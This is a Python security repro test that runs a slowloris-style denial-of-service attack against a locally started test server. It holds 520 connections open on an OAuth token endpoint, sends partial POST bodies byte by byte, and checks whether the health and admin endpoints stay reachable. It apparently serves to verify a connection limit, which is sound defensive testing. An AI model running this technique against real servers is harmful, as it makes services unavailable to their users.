# mypy: ignore-errors
# ruff: noqa: E501
"""No token: 512 connections that trickle the one open body. Then: does anyone else get HTTP?"""

import socket
import time

from tests.repro.security.lib import TOK, Srv

s = Srv("httpslow", secure=True)  # TLS left out only to make the attacker shorter; the limit is behind it
N = 520
cs = []
head = b"POST /iceberg/v1/oauth/tokens HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 60000\r\n\r\ng"
for _i in range(N):
    c = socket.create_connection(("127.0.0.1", s.hport))
    c.sendall(head)
    cs.append(c)
time.sleep(1)


def probe():
    ok = 0
    for _ in range(10):
        try:
            ok += s.http("GET", "/healthz", timeout=3)[0] == 200
        except Exception:
            pass
    return f"{ok}/10"


print("healthz right after:", probe(), "rss", s.rss())
t0 = time.time()
sent = N
for _k in range(4):
    time.sleep(20)
    for c in cs:
        try:
            c.sendall(b"r")
            sent += 1
        except OSError:
            pass
    print(f"after {time.time() - t0:.0f}s, 1 byte per 20 s per connection: healthz", probe(), "admin /metrics", end=" ")
    try:
        print(s.http("GET", "/metrics", token=TOK["admin"], timeout=3)[0])
    except Exception as e:
        print(repr(e)[:60])
[c.close() for c in cs]
time.sleep(1)
print("attacker gone:", probe(), s.alive(), s.stop())
